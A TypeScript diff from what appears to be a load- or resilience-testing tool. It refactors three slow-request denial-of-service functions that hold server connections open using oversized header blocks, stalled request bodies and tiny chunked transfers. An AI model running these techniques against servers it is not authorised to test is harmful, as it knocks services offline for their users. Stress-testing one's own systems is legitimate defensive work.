@@ -1,5 +1,5 @@
 import type { Attack } from './attack.ts';
-import { withSockets, write } from './open-sockets.ts';
+import { sendOnEach, withSockets } from './open-sockets.ts';
 import { bearer, request } from './requests.ts';
 
 /** As many headers as the size limit allows. */
@@ -9,7 +9,7 @@ const headers = `GET / HTTP/1.1\r\n${'a:\r\n'.repeat(3_900)}`;
 export const stallHeaders: Attack = (target) =>
   withSockets(target, async ({ open, untilOver, isOver }) => {
     for (let opened = 0; opened < 4_000 && !isOver(); opened += 100) {
-      await Promise.all(Array.from({ length: 100 }, async () => write(await open(), headers)));
+      await sendOnEach(open, 100, headers);
     }
     await untilOver();
   });
@@ -23,7 +23,7 @@ export const stallBodies: Attack = (target) =>
     const head = post(target.apiKey, 'Content-Length: 100');
     // In small steps, because the attack is on the slots, not on the time to accept connections.
     for (let opened = 0; opened < 1_100; opened += 50) {
-      await Promise.all(Array.from({ length: 50 }, async () => write(await open(), head)));
+      await sendOnEach(open, 50, head);
       await wait(50);
     }
     await untilOver();
@@ -33,6 +33,6 @@ export const stallBodies: Attack = (target) =>
 export const sendTinyChunks: Attack = (target) =>
   withSockets(target, async ({ open, untilOver }) => {
     const bytes = post(target.apiKey, 'Transfer-Encoding: chunked') + '1\r\n1\r\n'.repeat(60_000);
-    await Promise.all(Array.from({ length: 100 }, async () => write(await open(), bytes)));
+    await sendOnEach(open, 100, bytes);
     await untilOver();
   });
